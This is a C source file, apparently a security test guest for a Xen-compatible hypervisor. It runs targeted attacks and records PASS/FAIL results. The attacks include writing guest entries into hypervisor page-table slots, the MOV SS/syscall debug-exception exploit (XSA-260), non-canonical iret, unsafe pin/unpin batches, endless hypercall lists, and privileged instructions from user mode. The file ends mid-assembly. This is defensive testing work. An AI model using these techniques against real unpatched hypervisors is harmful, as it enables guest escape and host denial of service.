/*
 * attack.c - targeted attack guests for the findings of the security
 * review (docs/testing.md, "Attack scenarios"). One PV kernel; the attack
 * is chosen by the command line, attack=NAME:
 *   l4slots      guest-built L4 with its own entry in hv slot 262
 *   l4unpin      the same through the initial L4 after UNPIN_TABLE
 *   shinfo       pin the shared_info frame as an L1 (and L4)
 *   iret         HYPERVISOR_iret to a non-canonical rip with IF=0
 *   cpuid_edge   forced-emulation cpuid ending at 0x800000000000
 *   batch        mmuext {UNPIN cur L4, NEW_BASEPTR copy, CLEAR_PAGE cur L4}
 *   loops        huge virtual lists for set_trap_table, mmu_update,
 *                mmuext_op, multicall (gives up after budget_ms each)
 *   reservation  decrease_reservation of still-mapped frames + populate
 *   user         privileged instructions and int3 (DPL 0) from user mode
 *                (Xen 4.17 gives #GP for the former, #BP for int3)
 *   movss_db     (attack2 review) a data breakpoint (set_debugreg) on the
 *                operand of `mov ..., %ss` followed by `syscall`: the #DB
 *                the MOV SS holds back is delivered in ring 0 at the
 *                syscall entry, on the guest's %rsp (CVE-2018-8897,
 *                XSA-260). QEMU's TCG does not hold the #DB back, so under
 *                TCG the guest just takes its #DB; on hardware or KVM the
 *                hv writes its exception frame to the guest's %rsp.
 *   pt_tree      pin/unpin a tree of mb=59 MiB of full L1 tables rounds=3
 *                times, a failing pin, then die with it pinned (attack_pt.c)
 *   stale_l1, stale_gdt, stale_free, gnt_unmap, runstate_pad
 *                the TLB and grant findings of the second review
 *                (attack_tlb.c)
 * It runs as a boot-time domU next to the heartbeat dom0 (Xenolith) or,
 * for the attacks that do not need a second domain, as dom0 of a real
 * Xen 4.17. It prints PASS/FAIL lines (xlguest/check.h) for what it can
 * observe; an attack the hypervisor must answer by crashing the domain
 * shows up in the hv log instead ("d1 crashed: ..." or the kit's
 * "failsafe callback" line).
 * Must never: touch another domain's memory on purpose, or call anything
 * that would legitimately hurt any domain but itself.
 */
#include <stdint.h>
#include <xenolith/lib.h>
#include <xen/errno.h>
#include <xlguest/hypercall.h>
#include <xlguest/check.h>
#include <xlguest/kernel.h>
#include <xlguest/time.h>
#include <xlguest/traps.h>
#include <xlguest/platform.h>
#include "attack.h"

#define HV_DIRECTMAP 0xffff830000000000ULL
#define HV_M2P       0xffff800000000000ULL
#define EVIL_SLOT    262

/* ---- frames of our own, for page tables and lists ---- */
#define POOL_PAGES 24
static uint64_t pool[POOL_PAGES][512] __attribute__((aligned(4096)));
static unsigned int pool_next;

uint64_t *pool_page(void)
{
    if (pool_next >= POOL_PAGES) {
        printk("attack: page pool exhausted\n");
        xen_shutdown(SHUTDOWN_crash);
    }
    uint64_t *p = pool[pool_next++];
    memset(p, 0, 4096);
    return p;
}

uint64_t mfn_of(const void *va)
{
    return virt_to_mfn(va);
}

/* Map va to its own frame with `flags`, or unmap it (flags 0). */
long remap(const void *va, uint64_t flags)
{
    uint64_t pte = flags ? (mfn_of(va) << 12) | flags : 0;
    return HYPERVISOR_update_va_mapping((unsigned long)va, pte, UVMF_INVLPG);
}

long mmuext1(unsigned int cmd, uint64_t mfn)
{
    struct mmuext_op op = { .cmd = cmd };
    op.arg1.mfn = mfn;
    return HYPERVISOR_mmuext_op(&op, 1, NULL, DOMID_SELF);
}

static uint64_t read_cr3(void)
{
    uint64_t v;
    __asm__ volatile("mov %%cr3, %0" : "=r"(v));
    return v;
}

/* ---- traps: probes and expected faults ---- */
static volatile int probing;      /* a probe_read is running */
static volatile int probe_faulted;
static volatile uint64_t probe_vec;
/* cpuid_edge: where to resume after the expected trap. */
static volatile uint64_t edge_resume;
static volatile int edge_traps;
static volatile uint64_t edge_vec, edge_rip, edge_err;
/* user: the faults seen from guest user mode. */
#define MAX_USER_TRAPS 16
static volatile int user_traps;
static volatile uint64_t user_vec[MAX_USER_TRAPS], user_rip[MAX_USER_TRAPS],
    user_err[MAX_USER_TRAPS];
extern char ua0[], ua1[], ua2[], ua3[], ua4[], ua5[];
extern char ub0[], ub1[], ub2[], ub3[], ub4[], ub5[];
static char *const user_fault_at[6] = { ua0, ua1, ua2, ua3, ua4, ua5 };
static char *const user_after[6] = { ub0, ub1, ub2, ub3, ub4, ub5 };

void guest_trap(struct guest_frame *f)
{
    if ((f->cs & 3) == 3 && f->rip >= (uint64_t)ua0 && f->rip <= (uint64_t)ub5) {
        /* From guest user mode: record, then step over a faulting insn. */
        int n = user_traps++;
        if (n < MAX_USER_TRAPS) {
            user_vec[n] = f->vector;
            user_rip[n] = f->rip;
            user_err[n] = f->error_code;
        }
        for (int i = 0; i < 6; i++)
            if (f->rip == (uint64_t)user_fault_at[i]) {
                f->rip = (uint64_t)user_after[i];
                break;
            }
        return;
    }
    if (probing && (f->vector == 14 || f->vector == 13)) {
        probe_faulted = 1;
        probe_vec = f->vector;
        f->rip += 3; /* mov (%rsi), %rax */
        return;
    }
    if (edge_resume) {
        edge_traps++;
        edge_vec = f->vector;
        edge_rip = f->rip;
        edge_err = f->error_code;
        f->rip = edge_resume;
        edge_resume = 0;
        return;
    }
    printk("attack: unexpected trap %lu at %lx (error %lx, cr2 %lx)\n",
           (unsigned long)f->vector, (unsigned long)f->rip, (unsigned long)f->error_code,
           (unsigned long)guest_fault_cr2());
    xen_shutdown(SHUTDOWN_crash);
}

/* Read a word at addr; returns 1 if it faulted. */
int probe_read(uint64_t addr, uint64_t *val)
{
    uint64_t v = 0;
    probe_faulted = 0;
    probing = 1;
    __asm__ volatile("mov (%%rsi), %%rax" : "=a"(v) : "S"(addr), "0"(0UL) : "memory");
    probing = 0;
    *val = v;
    return probe_faulted;
}

/* Write a word at addr (the same 3-byte instruction length as the read,
 * which guest_trap skips); returns the vector it faulted with, or 0. */
int probe_write(uint64_t addr, uint64_t val)
{
    probe_faulted = 0;
    probe_vec = 0;
    probing = 1;
    __asm__ volatile("mov %%rax, (%%rsi)" :: "a"(val), "S"(addr) : "memory");
    probing = 0;
    return probe_faulted ? (int)probe_vec : 0;
}

/* ---- finding 1: hv slots of a guest-built L4 ---- */

/* An L3 (+ L2 of 2 MiB pages, user-accessible) mirroring the first
 * 512 MiB of physical memory: what the guest would like the hv to run on. */
static uint64_t evil_slot_entry(void)
{
    uint64_t *l3 = pool_page(), *l2 = pool_page();
    for (unsigned int i = 0; i < 256; i++)
        l2[i] = ((uint64_t)i << 21) | PTE_RW_FLAGS | PTE_PS;
    l3[0] = (mfn_of(l2) << 12) | PTE_RW_FLAGS;
    return (mfn_of(l3) << 12) | PTE_RW_FLAGS;
}

/* After switching to an L4 the guest built: the hv's slots must be the
 * hv's (directmap not readable, M2P readable and right). */
static void check_hv_slots_are_hvs(const char *what, const uint64_t *l4_ro, uint64_t evil)
{
    char buf[128];
    uint64_t v;
    xl_snprintf(buf, sizeof(buf), "%s: slot 262 of the pinned L4 is not the guest's entry", what);
    check_true(buf, l4_ro[EVIL_SLOT] != evil);
    int f = probe_read(HV_DIRECTMAP + 0x4000000, &v);
    xl_snprintf(buf, sizeof(buf), "%s: reading the hv directmap (0xffff830004000000) faults", what);
    if (!check_true(buf, f))
        printk("FAIL %s: isolation break: read hv memory %lx at 0xffff830004000000\n", what,
               (unsigned long)v);
    else
        check_eq("  ... with #PF", (long)probe_vec, 14);
    uint64_t self = mfn_of(l4_ro);
    int g = probe_read(HV_M2P + self * 8, &v);
    xl_snprintf(buf, sizeof(buf), "%s: M2P at 0xffff800000000000 readable", what);
    check_true(buf, !g);
    xl_snprintf(buf, sizeof(buf), "%s: M2P entry of the L4 frame is its pfn", what);
    check_eq(buf, (long)v, (long)(((uint64_t)l4_ro - GUEST_VIRT_BASE) >> 12));
}

static void attack_l4slots(start_info_t *si)
{
    const uint64_t *kl4 = (const uint64_t *)si->pt_base;
    uint64_t orig = read_cr3() >> 12;
    uint64_t evil = evil_slot_entry();
    uint64_t *F = pool_page();
    for (unsigned int i = 0; i < 512; i++)
        if (i < 256 || i > 271)
            F[i] = kl4[i];
    F[EVIL_SLOT] = evil;
    check_eq("drop the writable mapping of F (read-only)", remap(F, PTE_RO_FLAGS), 0);
    long rc = mmuext1(MMUEXT_PIN_L4_TABLE, mfn_of(F));
    printk("attack l4slots: PIN_L4_TABLE of F with its own slot 262 -> %ld\n", rc);
    if (rc) {
        check_true("pin of an L4 with guest hv slots refused", rc < 0);
        return;
    }
    check_eq("NEW_BASEPTR F -> 0", mmuext1(MMUEXT_NEW_BASEPTR, mfn_of(F)), 0);
    check_eq("running on F", (long)(read_cr3() >> 12), (long)mfn_of(F));
    check_hv_slots_are_hvs("l4slots", F, evil);
    check_eq("NEW_BASEPTR back to the initial L4 -> 0", mmuext1(MMUEXT_NEW_BASEPTR, orig), 0);
    check_eq("UNPIN F -> 0", mmuext1(MMUEXT_UNPIN_TABLE, mfn_of(F)), 0);
}

static void attack_l4unpin(start_info_t *si)
{
    uint64_t *X = (uint64_t *)si->pt_base;
    uint64_t xm = read_cr3() >> 12;
    check_eq("cr3 is the initial L4", (long)xm, (long)mfn_of(X));
    uint64_t evil = evil_slot_entry();
    /* G: a faithful copy of the whole initial L4 to run on meanwhile. */
    uint64_t *G = pool_page();
    for (unsigned int i = 0; i < 512; i++)
        G[i] = X[i];
    check_eq("G read-only", remap(G, PTE_RO_FLAGS), 0);
    check_eq("PIN_L4 G (copy of the initial L4) -> 0", mmuext1(MMUEXT_PIN_L4_TABLE, mfn_of(G)), 0);
    check_eq("NEW_BASEPTR G -> 0", mmuext1(MMUEXT_NEW_BASEPTR, mfn_of(G)), 0);
    long rc = mmuext1(MMUEXT_UNPIN_TABLE, xm);
    printk("attack l4unpin: UNPIN_TABLE of the initial L4 -> %ld\n", rc);
    if (rc) {
        printk("SKIP l4unpin: the initial L4 cannot be unpinned (%ld)\n", rc);
        return;
    }
    rc = remap(X, PTE_RW_FLAGS);
    printk("attack l4unpin: writable mapping of the unpinned L4 -> %ld\n", rc);
    if (rc) {
        printk("SKIP l4unpin: no writable mapping of the unpinned L4 (%ld)\n", rc);
        return;
    }
    X[EVIL_SLOT] = evil;
    check_eq("initial L4 read-only again", remap(X, PTE_RO_FLAGS), 0);
    rc = mmuext1(MMUEXT_PIN_L4_TABLE, xm);
    printk("attack l4unpin: PIN_L4_TABLE of it with its own slot 262 -> %ld\n", rc);
    if (rc) {
        check_true("re-pin of the initial L4 with guest hv slots refused", rc < 0);
        mmuext1(MMUEXT_NEW_BASEPTR, mfn_of(G));
        return;
    }
    check_eq("NEW_BASEPTR initial L4 -> 0", mmuext1(MMUEXT_NEW_BASEPTR, xm), 0);
    check_hv_slots_are_hvs("l4unpin", X, evil);
    check_eq("UNPIN G -> 0", mmuext1(MMUEXT_UNPIN_TABLE, mfn_of(G)), 0);
}

/* ---- finding 2: shared_info pinned as a page table ---- */
static void attack_shinfo(start_info_t *si)
{
    if (!guest_shared_info) {
        printk("SKIP shinfo: shared_info not mapped\n");
        return;
    }
    uint64_t smfn = si->shared_info >> 12;
    check_eq("unmap shared_info", HYPERVISOR_update_va_mapping((unsigned long)guest_shared_info,
                                                               0, UVMF_INVLPG), 0);
    long rc = mmuext1(MMUEXT_PIN_L1_TABLE, smfn);
    printk("attack shinfo: PIN_L1_TABLE shared_info -> %ld\n", rc);
    check_eq("PIN_L1_TABLE of shared_info refused (-EINVAL, as Xen)", rc, -XEN_EINVAL);
    if (rc == 0)
        mmuext1(MMUEXT_UNPIN_TABLE, smfn);
    rc = mmuext1(MMUEXT_PIN_L4_TABLE, smfn);
    printk("attack shinfo: PIN_L4_TABLE shared_info -> %ld\n", rc);
    check_eq("PIN_L4_TABLE of shared_info refused (-EINVAL, as Xen)", rc, -XEN_EINVAL);
    if (rc == 0)
        mmuext1(MMUEXT_UNPIN_TABLE, smfn);
    check_eq("map shared_info again",
             HYPERVISOR_update_va_mapping((unsigned long)guest_shared_info,
                                          si->shared_info | PTE_RW_FLAGS, UVMF_INVLPG), 0);
}

/* ---- finding 3: non-canonical rip through iret / emulation ---- */
void iret_noncanonical(void);
extern char iret_back[];
/* iret to 0x8000000000000000 with the caller's rsp; the #GP handler
 * resumes at iret_back, which returns to the caller. */
__asm__(".text\n"
        ".globl iret_noncanonical, iret_back\n"
        "iret_noncanonical:\n"
        "    mov %rsp, %rax\n"
        "    pushq $0xe02b\n"          /* ss */
        "    push %rax\n"              /* rsp: the caller's, at our return address */
        "    pushq $0x2\n"             /* rflags: IF=0 */
        "    pushq $0xe030\n"          /* cs: kernel context (RPL 0, as in a bounce frame) */
        "    movabs $0x8000000000000000, %rcx\n"
        "    push %rcx\n"              /* rip */
        "    pushq $0\n"               /* flags */
        "    jmp hypercall_page + 23 * 32\n"
        "iret_back:\n"
        "    ret\n");

static void attack_iret(void)
{
    printk("attack iret: HYPERVISOR_iret to rip 0x8000000000000000 with IF=0\n");
    edge_traps = 0;
    edge_resume = (uint64_t)iret_back;
    iret_noncanonical();
    edge_resume = 0;
    printk("attack iret: trap %lu at %lx (error %lx)\n", (unsigned long)edge_vec,
           (unsigned long)edge_rip, (unsigned long)edge_err);
    /* Real Xen 4.17 returns to the frame and bounces the #GP of the
     * non-canonical rip to the guest. */
    check_eq("one trap after the iret", edge_traps, 1);
    check_eq("the trap is #GP (as Xen)", (long)edge_vec, 13);
    check_true("the #GP rip is 0x8000000000000000 (as Xen)", edge_rip == 0x8000000000000000ULL);
}

/* ---- attack2: MOV SS + syscall with a data breakpoint (XSA-260) ---- */
void movss_syscall(uint64_t stack_top);
extern char movss_after[];
volatile uint16_t movss_sel = 0xe02b; /* FLAT_RING3_SS64: what %ss holds */
static volatile uint64_t movss_saved_rsp;
/* Switch to stack_top, load %ss from movss_sel (the watched word), then
 * `syscall` xen_version(0) at once; back on the caller's stack after. */
__asm__(".text\n"
        ".globl movss_syscall, movss_after\n"
        "movss_syscall:\n"
        "    push %rbx\n"
        "    mov %rsp, movss_saved_rsp(%rip)\n"
        "    mov %rdi, %rsp\n"
        "    mov $17, %eax\n"          /* __HYPERVISOR_xen_version */
        "    xor %edi, %edi\n"         /* XENVER_version */
        "    xor %esi, %esi\n"
        "    mov movss_sel(%rip), %ss\n"
        "    syscall\n"
        "movss_after:\n"
        "    mov movss_saved_rsp(%rip), %rsp\n"
        "    pop %rbx\n"
        "    ret\n");

static long set_dr(int reg, uint64_t val)
{
    return xen_hypercall5(__HYPERVISOR_set_debugreg, (uint64_t)(long)reg, val, 0, 0, 0);
}

static void attack_movss_db(void)
{
    uint64_t *stk = pool_page();
    for (int i = 0; i < 512; i++)
        stk[i] = 0x5a5a5a5a5a5a5a5aULL;
    printk("attack movss_db: DR0=&movss_sel (RW, 1 byte), mov %%ss then syscall on a scratch stack\n");
    check_eq("set_debugreg(0, &movss_sel)", set_dr(0, (uint64_t)&movss_sel), 0);
    check_eq("set_debugreg(7, L0 RW=11 LEN=1)", set_dr(7, 0x30001ULL), 0);
    edge_traps = 0;
    edge_resume = (uint64_t)movss_after;
    movss_syscall((uint64_t)&stk[512]);
    edge_resume = 0;
    set_dr(7, 0);
    printk("attack movss_db: %d guest traps (vector %lu at %lx)\n", edge_traps,
           (unsigned long)edge_vec, (unsigned long)edge_rip);
    /* What the hv must never do: push its own frame (cs 0xe008, a ring-0
     * rip) onto a stack pointer the guest chose. Under TCG the #DB comes
     * to the guest right after the mov (rip at the syscall). */
    int hv_frame = 0;
    for (int i = 0; i < 512; i++)
        if (stk[i] == 0xe008)
            hv_frame = 1;
    check_true("no ring-0 exception frame (cs 0xe008) on the guest-chosen stack", !hv_frame);
    check_true("the #DB reached the guest (not taken in ring 0 at the syscall entry)",
               edge_traps == 1 && edge_vec == 1);
}

extern char edge_code[], edge_code_end[], edge_back[];
__asm__(".text\n"
        ".globl edge_code, edge_code_end\n"
        "edge_code: ud2a; .ascii \"xen\"; cpuid\n"
        "edge_code_end:\n");

static void attack_cpuid_edge(void)
{
    const uint64_t top = 0x0000800000000000ULL, page = top - 4096;
    size_t len = (size_t)(edge_code_end - edge_code);
    /* C (code), and an L1/L2/L3 chain putting C at the last page below
     * the canonical hole through L4 slot 255. */
    uint8_t *C = (uint8_t *)pool_page();
    uint64_t *l1 = pool_page(), *l2 = pool_page(), *l3 = pool_page();
    memcpy(C + 4096 - len, edge_code, len);
    l1[511] = (mfn_of(C) << 12) | PTE_RO_FLAGS;
    l2[511] = (mfn_of(l1) << 12) | PTE_RW_FLAGS;
    l3[511] = (mfn_of(l2) << 12) | PTE_RW_FLAGS;
    long rc = remap(l1, PTE_RO_FLAGS) | remap(l2, PTE_RO_FLAGS) | remap(l3, PTE_RO_FLAGS);
    rc = rc ?: mmuext1(MMUEXT_PIN_L3_TABLE, mfn_of(l3));
    mmu_update_t u = { .ptr = (read_cr3() & ~0xfffULL) + 255 * 8, .val = (mfn_of(l3) << 12) | PTE_RW_FLAGS };
    rc = rc ?: HYPERVISOR_mmu_update(&u, 1, NULL, DOMID_SELF);
    if (rc) {
        printk("SKIP cpuid_edge: cannot map the page below 0x800000000000 (%ld)\n", rc);
        return;
    }
    uint64_t w;
    check_true("code page mapped at 0x7ffffffff000", !probe_read(page + 4096 - 8, &w));
    uint32_t a = 0x40000000, b = 0, c = 0, d = 0;
    printk("attack cpuid_edge: forced cpuid ending at 0x800000000000\n");
    edge_traps = 0;
    edge_resume = (uint64_t)edge_back;
    __asm__ volatile("jmp *%4\n"
                     ".globl edge_back\n edge_back:\n"
                     : "+a"(a), "=b"(b), "+c"(c), "=d"(d)
                     : "r"(top - len)
                     : "memory");
    edge_resume = 0;
    printk("attack cpuid_edge: trap %lu at %lx (error %lx), eax %x ebx %x\n",
           (unsigned long)edge_vec, (unsigned long)edge_rip, (unsigned long)edge_err, a, b);
    check_eq("one trap after the emulated cpuid", edge_traps, 1);
    /* Xen 4.17 emulates the cpuid, then the fetch at the non-canonical
     * rip gives the guest #GP(0) with rip 0x800000000000. */
    check_true("the cpuid was emulated (ebx XenV)", b == 0x566e6558);
    check_eq("the trap is #GP (as Xen)", (long)edge_vec, 13);
    check_true("the trap rip is 0x800000000000 (as Xen)", edge_rip == top);
}

/* ---- finding 4: unpin + switch + clear of the current L4 in one batch ---- */
static void attack_batch(start_info_t *si)
{
    uint64_t *X = (uint64_t *)si->pt_base;
    uint64_t xm = read_cr3() >> 12;
    uint64_t *Y = pool_page();
    for (unsigned int i = 0; i < 512; i++)
        Y[i] = X[i];
    check_eq("Y read-only", remap(Y, PTE_RO_FLAGS), 0);
    check_eq("PIN_L4 Y (copy of the current L4) -> 0", mmuext1(MMUEXT_PIN_L4_TABLE, mfn_of(Y)), 0);
    struct mmuext_op ops[3] = { { .cmd = MMUEXT_UNPIN_TABLE }, { .cmd = MMUEXT_NEW_BASEPTR },
                                { .cmd = MMUEXT_CLEAR_PAGE } };
    ops[0].arg1.mfn = xm;
    ops[1].arg1.mfn = mfn_of(Y);
    ops[2].arg1.mfn = xm;
    unsigned int done = 0;
    printk("attack batch: {UNPIN X, NEW_BASEPTR Y, CLEAR_PAGE X}, X the current L4\n");
    long rc = HYPERVISOR_mmuext_op(ops, 3, &done, DOMID_SELF);
    uint64_t now = read_cr3() >> 12;
    printk("attack batch: rc %ld, done %u, now on %s\n", rc, done,
           now == xm ? "X" : now == mfn_of(Y) ? "Y" : "?");
    check_true("still running, on X or Y", now == xm || now == mfn_of(Y));
    if (rc == 0) {
        check_eq("all 3 done", done, 3);
        check_true("on Y after the batch", now == mfn_of(Y));
        uint64_t v;
        check_true("X (no longer in use) was cleared", !probe_read((uint64_t)&X[511], &v) && v == 0);
    } else {
        check_true("batch refused part-way, X not cleared while in use",
                   now != xm || X[511] != 0);
    }
}

/* ---- finding 5: unbounded loops over huge guest lists ---- */
#define LOOP_BASE 0x0000008000000000ULL /* L4 slot 1: 512 GiB of one frame */
static uint64_t *loop_page;
static volatile int loop_active;
static volatile uint64_t loop_deadline, loop_rdi, loop_rsi, loop_rdx;
static volatile int loop_gave_up, timer_port = -1;
static volatile unsigned long upcalls;
extern char loop_sc[];
#define GAVE_UP 0x6176655f67ULL

static uint64_t pvclock_ns(void)
{
    return pvclock_read(&guest_shared_info->vcpu_info[0].time);
}

void guest_event_upcall(struct guest_frame *f)
{
    vcpu_info_t *vi = &guest_shared_info->vcpu_info[0];
    upcalls++;
    vi->evtchn_upcall_pending = 0;
    __atomic_exchange_n(&vi->evtchn_pending_sel, 0, __ATOMIC_SEQ_CST);
    for (unsigned int i = 0; i < sizeof(guest_shared_info->evtchn_pending) /
                                     sizeof(guest_shared_info->evtchn_pending[0]); i++)
        __atomic_exchange_n(&guest_shared_info->evtchn_pending[i], 0, __ATOMIC_SEQ_CST);
    if (!loop_active)
        return;
    if (pvclock_ns() >= loop_deadline && f->rip == (uint64_t)loop_sc) {
        /* The long call was continued: stop it here, keep its progress. */
        loop_rdi = f->rdi;
        loop_rsi = f->rsi;
        loop_rdx = f->rdx;
        loop_gave_up = 1;
        f->rip += 2;
        f->rax = GAVE_UP;
        return;
    }
    HYPERVISOR_set_timer_op(pvclock_ns() + 10000000ULL);
}

static long loop_call(uint64_t nr, uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4)
{
    register uint64_t r10 __asm__("r10") = a4;
    register uint64_t r8 __asm__("r8") = 0;
    long res;
    __asm__ volatile(".globl loop_sc\n loop_sc: syscall"
                     : "=a"(res), "+D"(a1), "+S"(a2), "+d"(a3), "+r"(r10), "+r"(r8)
                     : "a"(nr)
                     : "rcx", "r11", "memory");
    return res;
}

/* Run one long call for at most budget_ms; returns its result or GAVE_UP. */
static long timed_call(const char *what, uint64_t nr, uint64_t a1, uint64_t a2, uint64_t a3,
                       uint64_t a4, uint64_t budget_ms, unsigned int entry_size)
{
    uint64_t t0 = pvclock_ns();
    loop_gave_up = 0;
    loop_rdi = loop_rsi = loop_rdx = 0;
    loop_deadline = t0 + budget_ms * 1000000ULL;
    loop_active = 1;
    HYPERVISOR_set_timer_op(t0 + 10000000ULL);
    long rc = loop_call(nr, a1, a2, a3, a4);
    loop_active = 0;
    HYPERVISOR_set_timer_op(0);
    uint64_t ms = (pvclock_ns() - t0) / 1000000ULL;
    if (rc == (long)GAVE_UP)
        printk("attack loops: %s: gave up after %lu ms, %lu entries processed (list pointer "
               "%lx, arg2 %lx)\n", what, (unsigned long)ms,
               (unsigned long)((loop_rdi - a1) / entry_size), (unsigned long)loop_rdi,
               (unsigned long)loop_rsi);
    else
        printk("attack loops: %s: returned %ld after %lu ms\n", what, rc, (unsigned long)ms);
    return rc;
}

static long build_loop_list(void)
{
    loop_page = pool_page();
    uint64_t *l1 = pool_page(), *l2 = pool_page(), *l3 = pool_page();
    for (unsigned int i = 0; i < 512; i++) {
        l1[i] = (mfn_of(loop_page) << 12) | PTE_RW_FLAGS;
        l2[i] = (mfn_of(l1) << 12) | PTE_RW_FLAGS;
        l3[i] = (mfn_of(l2) << 12) | PTE_RW_FLAGS;
    }
    long rc = remap(l1, PTE_RO_FLAGS);
    rc = rc ?: remap(l2, PTE_RO_FLAGS);
    rc = rc ?: remap(l3, PTE_RO_FLAGS);
    rc = rc ?: mmuext1(MMUEXT_PIN_L3_TABLE, mfn_of(l3));
    mmu_update_t u = { .ptr = (read_cr3() & ~0xfffULL) + 1 * 8,
                       .val = (mfn_of(l3) << 12) | PTE_RW_FLAGS };
    rc = rc ?: HYPERVISOR_mmu_update(&u, 1, NULL, DOMID_SELF);
    return rc;
}

static void attack_loops(uint64_t budget_ms)
{
    if (!guest_shared_info) {
        printk("SKIP loops: no shared_info, no timer to give up with\n");
        return;
    }
    long rc = build_loop_list();
    if (!check_eq("512 GiB list of one frame at 0x8000000000", rc, 0))
        return;
    uint64_t v;
    check_true("list readable at its end", !probe_read(LOOP_BASE + (511ULL << 30) + 4088, &v));
    struct evtchn_bind_virq bv = { .virq = VIRQ_TIMER, .vcpu = 0 };
    check_eq("bind VIRQ_TIMER", HYPERVISOR_event_channel_op(EVTCHNOP_bind_virq, &bv), 0);
    struct evtchn_unmask um = { .port = bv.port };
    HYPERVISOR_event_channel_op(EVTCHNOP_unmask, &um);
    guest_shared_info->vcpu_info[0].evtchn_upcall_mask = 0;

    /* set_trap_table: 2^35 entries that never end the table. */
    struct trap_info *ti = (struct trap_info *)loop_page;
    for (unsigned int i = 0; i < 4096 / sizeof(*ti); i++)
        ti[i] = (struct trap_info){ .vector = 0x81, .flags = 0, .cs = FLAT_KERNEL_CS,
                                    .address = (unsigned long)loop_page };
    rc = timed_call("set_trap_table (endless list)", __HYPERVISOR_set_trap_table, LOOP_BASE, 0,
                    0, 0, budget_ms, sizeof(*ti));
    check_true("set_trap_table over an endless list is preemptible", rc == (long)GAVE_UP);
    check_eq("traps_init again", traps_init(), 0);

    /* mmu_update: 0x7fffffff MACHPHYS_UPDATEs of our own frame to its pfn. */
    mmu_update_t *mu = (mmu_update_t *)loop_page;
    uint64_t pfn = ((uint64_t)loop_page - GUEST_VIRT_BASE) >> 12;
    for (unsigned int i = 0; i < 4096 / sizeof(*mu); i++)
        mu[i] = (mmu_update_t){ .ptr = (mfn_of(loop_page) << 12) | MMU_MACHPHYS_UPDATE,
                                .val = pfn };
    rc = timed_call("mmu_update x 0x7fffffff", __HYPERVISOR_mmu_update, LOOP_BASE, 0x7fffffff,
                    0, DOMID_SELF, budget_ms, sizeof(*mu));
    check_true("mmu_update x 0x7fffffff completes or is preemptible", rc == 0 || rc == (long)GAVE_UP);

    /* mmuext_op: TLB_FLUSH_LOCAL everywhere (every 8-byte word is 6, so
     * each 24-byte op reads cmd 6 wherever it starts). */
    for (unsigned int i = 0; i < 512; i++)
        loop_page[i] = MMUEXT_TLB_FLUSH_LOCAL;
    rc = timed_call("mmuext_op TLB_FLUSH_LOCAL x 0x7fffffff", __HYPERVISOR_mmuext_op, LOOP_BASE,
                    0x7fffffff, 0, DOMID_SELF, budget_ms, sizeof(struct mmuext_op));
    check_true("mmuext_op x 0x7fffffff completes or is preemptible", rc == 0 || rc == (long)GAVE_UP);

    /* multicall: 0x7fffffff xen_version calls. */
    multicall_entry_t *mc = (multicall_entry_t *)loop_page;
    for (unsigned int i = 0; i < 4096 / sizeof(*mc); i++)
        mc[i] = (multicall_entry_t){ .op = __HYPERVISOR_xen_version, .args = { XENVER_version } };
    rc = timed_call("multicall xen_version x 0x7fffffff", __HYPERVISOR_multicall, LOOP_BASE,
                    0x7fffffff, 0, 0, budget_ms, sizeof(*mc));
    check_true("multicall x 0x7fffffff completes or is preemptible", rc == 0 || rc == (long)GAVE_UP);
    guest_shared_info->vcpu_info[0].evtchn_upcall_mask = 1;
    printk("attack loops: %lu upcalls\n", upcalls);
}

/* ---- finding 6: decrease_reservation of mapped frames ---- */
#define RESV_FRAMES 32
static uint8_t resv[RESV_FRAMES][4096] __attribute__((aligned(4096)));

long reservation(unsigned int cmd, xen_pfn_t *frame)
{
    struct xen_memory_reservation r = { .nr_extents = 1, .extent_order = 0, .domid = DOMID_SELF };
    set_xen_guest_handle(r.extent_start, frame);
    return HYPERVISOR_memory_op(cmd, &r);
}

static void attack_reservation(void)
{
    domid_t self = DOMID_SELF;
    long max = HYPERVISOR_memory_op(XENMEM_maximum_reservation, &self);
    long cur0 = HYPERVISOR_memory_op(XENMEM_current_reservation, &self);
    printk("attack reservation: current %ld, maximum %ld\n", cur0, max);
    check_true("current <= maximum at start", cur0 > 0 && cur0 <= max);
    int decreased = 0, populated = 0, over = 0;
    for (unsigned int i = 0; i < RESV_FRAMES; i++) {
        resv[i][0] = (uint8_t)i; /* touched: mapped and ours */
        xen_pfn_t m = mfn_of(resv[i]);
        long d = reservation(XENMEM_decrease_reservation, &m);
        if (d == 1)
            decreased++;
        xen_pfn_t p = ((uint64_t)resv[i] - GUEST_VIRT_BASE) >> 12;
        long pr = reservation(XENMEM_populate_physmap, &p);
        if (pr == 1)
            populated++;
        long cur = HYPERVISOR_memory_op(XENMEM_current_reservation, &self);
        if (cur > max)
            over++;
    }
    long cur1 = HYPERVISOR_memory_op(XENMEM_current_reservation, &self);
    printk("attack reservation: %d decreases of mapped frames succeeded, %d populates "
           "succeeded, current now %ld\n", decreased, populated, cur1);
    check_eq("current_reservation never above maximum", over, 0);
    /* Every released frame is still mapped (we never unmapped it): the
     * frames we hold are cur0 + populated. */
    check_true("frames held (start + populated, released ones still mapped) <= maximum",
               cur0 + populated <= max);
    int readable = 1;
    for (unsigned int i = 0; i < RESV_FRAMES; i++)
        readable &= resv[i][0] == (uint8_t)i;
    printk("attack reservation: released frames still read back their data: %s\n",
           readable ? "yes" : "no");
    /* Unmap one released frame: now it can really go, and a populate
     * for its pfn may succeed within the maximum. */
    if (decreased) {
        check_eq("unmap a released frame", remap(resv[0], 0), 0);
        xen_pfn_t p = ((uint64_t)resv[0] - GUEST_VIRT_BASE) >> 12;
        long pr = reservation(XENMEM_populate_physmap, &p);
        long cur2 = HYPERVISOR_memory_op(XENMEM_current_reservation, &self);
        printk("attack reservation: after unmapping it, populate -> %ld, current %ld\n", pr, cur2);
        check_true("current_reservation <= maximum after unmap + populate", cur2 <= max);
    }
}

/* ---- findings 7 and 8: privileged instructions and int3 from user mode ---- */
extern char user_priv[], user_sc_cb[];
long enter_user(uint64_t rip, uint64_t rsp);
extern char guest_trap_3[];
__asm__(".text\n"
        ".globl user_priv, user_sc_cb, enter_user\n"
        ".globl ua0, ua1, ua2, ua3, ua4, ua5, ub0, ub1, ub2, ub3, ub4, ub5\n"
        "user_priv:\n"
        "    mov $0xc0000101, %ecx\n xor %eax, %eax\n xor %edx, %edx\n"
        "ua0: wrmsr\n"
        "ub0: mov $0xc0000102, %ecx\n"
        "ua1: wrmsr\n"
        "ub1:\n"
        "ua2: clts\n"
        "ub2:\n"
        "ua3: mov %cr3, %rax\n"
        "ub3:\n"
        "ua4: wbinvd\n"
        "ub4:\n"
        "ua5: int3\n"
        "ub5:\n"
